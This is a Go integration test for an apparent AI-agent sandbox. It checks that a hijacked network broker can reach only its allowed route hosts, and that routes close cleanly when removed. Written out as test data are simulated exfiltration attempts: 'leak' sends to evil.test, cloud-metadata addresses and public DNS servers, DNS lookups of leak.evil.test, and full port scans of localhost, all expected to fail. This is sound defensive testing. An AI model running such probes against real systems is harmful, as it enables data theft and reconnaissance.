package attack

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/agent-init/agent-init/internal/lab"
)

// turned runs an operation as the broker would, if it were taken over: with its user and its group.
func (b *brokered) turned(who inmate, args ...string) lab.Poke {
	b.Helper()
	r := b.box.Exec(lab.Cmd{Args: append([]string{"/usr/local/bin/poke"}, args...), UID: who.uid, GID: who.gid})
	p, err := lab.ParsePoke(r.Stdout)
	if err != nil {
		b.Fatalf("poke %v: %v: %s", args, err, r)
	}
	return p
}

var routeAddrs = []string{"45.30.50.1", "2a0f:30::50"}

// elsewhere selects what neither goes to the route's host on its port, nor to the guard's servers.
func elsewhere(p *lab.Packet) bool {
	for _, a := range routeAddrs {
		if p.Dst == netip.MustParseAddr(a) && p.Proto == unix.IPPROTO_TCP && p.DstPort == 443 {
			return false
		}
	}
	return notGuards(p)
}

// TestLabBrokerTakenOver: hostile code in the broker's place reaches the hosts of its routes, and nothing else. The agent,
// root and whoever has one of its ids reach nothing of those.
func TestLabBrokerTakenOver(t *testing.T) {
	b := broker(t, "", lab.BoxOptions{})
	if p := b.prompt(b.ask()...); !p.OK {
		t.Fatalf("the model does not answer: %s", p)
	}
	b.works("http", "-ca", bundle, "https://ok.test/") // leased to the agent
	who := b.process()
	if who.uid == 0 || who.uid == lab.AgentUID || who.gid == who.uid {
		t.Fatalf("the broker is %+v", who)
	}
	ok4, ok6 := named("ok.test")
	evil4, evil6 := named("evil.test")
	for _, a := range routeAddrs {
		if p := b.turned(who, "-patient", "tcp", target(a, 443)); !p.OK {
			t.Errorf("proves nothing: the broker does not reach %s: %s", a, p)
		}
	}
	b.box.ForgetPackets()
	b.lab.DNS.Forget()
	var tries [][]string
	for _, a := range []string{ok4.String(), ok6.String(), evil4.String(), evil6.String(), "1.1.1.1", "169.254.169.254", "fd00:ec2::254", "45.30.9.9", lab.Upstream4.String()} {
		for _, port := range []uint16{53, 80, 443, 853, 8443} {
			tries = append(tries, []string{"tcp", "-send", "leak", target(a, port)}, []string{"udp", "-send", "leak", "-timeout", "300ms", target(a, port)})
		}
		tries = append(tries, []string{"ping", a})
	}
	for _, a := range routeAddrs {
		for _, port := range []uint16{53, 80, 8443} {
			tries = append(tries, []string{"tcp", "-send", "leak", target(a, port)})
		}
		tries = append(tries, []string{"udp", "-send", "leak", "-timeout", "300ms", target(a, 443)}, []string{"ping", a})
	}
	for _, server := range []string{"127.0.0.1:53", "127.0.0.11:53", "[::1]:53", lab.Upstream4.String() + ":53", "8.8.8.8:53", target(routeAddrs[0], 53)} {
		tries = append(tries, []string{"dns", server, "leak.evil.test", "A"}, []string{"dns", "-tcp", server, "leak.evil.test", "A"})
	}
	tries = append(tries, []string{"resolve", "leak.evil.test"}, []string{"resolve", "ok.test"},
		[]string{"scan", "-timeout", "1s", "-c", "64", "127.0.0.1", "1-65535"}, []string{"scan", "-timeout", "1s", "-c", "64", "::1", "1-65535"},
		[]string{"udp", "-send", "leak", "-noreply", "224.0.0.251:5353"}, []string{"udp", "-send", "leak", "-noreply", "[ff02::fb]:5353"},
		[]string{"tcp", "-send", "leak", target(b.box.Gateway4().String(), 443)}, []string{"tcp", "-send", "leak", target(b.box.Neighbor4().String(), 443)})
	for _, args := range tries {
		if p := b.turned(who, args...); p.OK {
			t.Errorf("in the broker's place: %v: %s", args, p)
		}
	}
	b.sealed(elsewhere)
	b.unasked("evil.test")

	// And the other way round.
	b.box.ForgetPackets()
	agents := []inmate{{uid: 0}, {uid: lab.AgentUID, gid: lab.AgentUID}, {uid: who.uid, gid: lab.AgentUID}, {uid: lab.AgentUID, gid: who.gid}}
	for _, a := range routeAddrs {
		b.blocked("tcp", "-send", "leak", target(a, 443))
		b.blocked("http", "-ca", bundle, "-addr", target(a, 443), "https://api.anthropic.com/v1/models")
		b.blocked("http", "-ca", bundle, "-addr", target(a, 443), "https://ok.test/")
		for _, other := range agents {
			if p := b.turned(other, "tcp", "-send", "leak", target(a, 443)); p.OK {
				t.Errorf("uid %d, gid %d reaches the route's host: %s", other.uid, other.gid, p)
			}
		}
	}
	for _, a := range routeAddrs {
		b.sealed(toward(a))
	}
}

// TestLabBrokerRouteEnds: a route that is taken out ends what is under way on it, and opens nothing.
func TestLabBrokerRouteEnds(t *testing.T) {
	b := broker(t, "", lab.BoxOptions{})
	if p := b.prompt(b.ask()...); !p.OK {
		t.Fatalf("the model does not answer: %s", p)
	}
	who := b.process()
	held := b.box.ExecStart(lab.Cmd{Args: []string{"/usr/local/bin/poke", "idle", "-n", "1", "-hold", "5s", target(routeAddrs[0], 443)}, UID: who.uid, GID: who.gid})
	defer held.Wait(0)
	must(t, b.box.WriteFile("/etc/agent-init/policy.yaml", []byte("domains: [ok.test]\n"), 0o644))
	if r := b.root("agent-init", "reload"); r.Code != 0 {
		t.Fatalf("reload: %s", r)
	}
	b.box.ForgetPackets()
	for _, a := range routeAddrs {
		if p := b.turned(who, "tcp", target(a, 443)); p.OK || p.Errno == "" {
			t.Errorf("after the route: %s: %s", a, p)
		}
		b.blocked("tcp", "-send", "leak", target(a, 443))
	}
	if p := b.prompt(b.ask()...); p.OK {
		t.Errorf("after the route, the broker answers: %s", p)
	}
	time.Sleep(time.Second) // for what is held to try
	for _, a := range routeAddrs {
		b.sealed(toward(a))
	}
	if data, err := b.box.ReadFile("/run/agent-init/leases.json"); err != nil || strings.Contains(string(data), "anthropic") {
		t.Errorf("the leases are %s, %v", data, err)
	}
}
